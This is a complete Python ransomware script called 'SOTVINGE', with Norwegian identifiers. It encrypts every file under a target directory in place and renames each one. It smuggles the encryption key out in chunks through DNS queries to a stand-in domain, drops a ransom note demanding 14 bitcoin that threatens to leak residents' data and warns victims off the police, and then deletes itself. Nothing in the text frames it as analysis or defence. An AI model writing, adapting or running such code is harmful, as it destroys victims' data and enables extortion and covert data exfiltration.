#!/usr/bin/python3
# sot 2.3 / SOTVINGE
import base64
import hashlib
import os
import socket
import struct
import sys
import time

KAMPANJE = "terne-47"
SKY = "n.sky-arkiv.example"
NAVNETJENER = ("10.20.0.53", 53)
BREV = """SOTVINGE

Alle filene deres er kryptert. Vi har ogsaa tatt en kopi av dem.
Dere har 96 timer. Prisen er 14 bitcoin. Etter det legger vi ut
alt vi har om de som bor hos dere, ett navn i timen.

Ikke ring politiet. Ikke bruk sikkerhetskopien, den er vaar ogsaa.
Deres nummer er {nr}.
"""


def strom(nokkel, nonce, lengde):
    ut = [hashlib.sha256(nokkel + nonce + struct.pack(">I", n)).digest() for n in range(lengde // 32 + 1)]
    return b"".join(ut)[:lengde]


def xor(a, b):
    return (int.from_bytes(a, "big") ^ int.from_bytes(b, "big")).to_bytes(len(a), "big")


def spor(navn):
    q = os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    q += b"".join(bytes([len(d)]) + d.encode() for d in navn.split(".")) + b"\x00\x00\x01\x00\x01"
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(q, NAVNETJENER)
        s.recvfrom(512)


def ring_hjem(nokkel, nr):
    # maska hindrer at nokkelen kan leses rett av ledningen
    maska = hashlib.sha256(KAMPANJE.encode()).digest()
    tekst = base64.b32encode(xor(nokkel, maska)).decode().rstrip("=").lower()
    for i in range(0, len(tekst), 13):
        spor(f"{i // 13}-{tekst[i : i + 13]}.{nr}.{SKY}")
        time.sleep(1.7)


def krypter(fil, nokkel):
    with open(fil, "r+b") as f:
        klar = f.read()
        nonce = hashlib.sha256(os.urandom(16)).digest()[:16]
        f.seek(0)
        f.write(b"SOT1" + nonce + xor(klar, strom(nokkel, nonce, len(klar))))
    os.rename(fil, fil + ".sot")


if __name__ == "__main__":
    nokkel, nr = os.urandom(32), os.urandom(4).hex()
    ring_hjem(nokkel, nr)
    for mappe, _, filer in sorted(os.walk(sys.argv[1])):
        for navn in sorted(filer):
            krypter(os.path.join(mappe, navn), nokkel)
            time.sleep(0.9)
        if filer:
            with open(os.path.join(mappe, "LES-MEG.txt"), "w") as f:
                f.write(BREV.format(nr=nr))
    os.unlink(sys.argv[0])
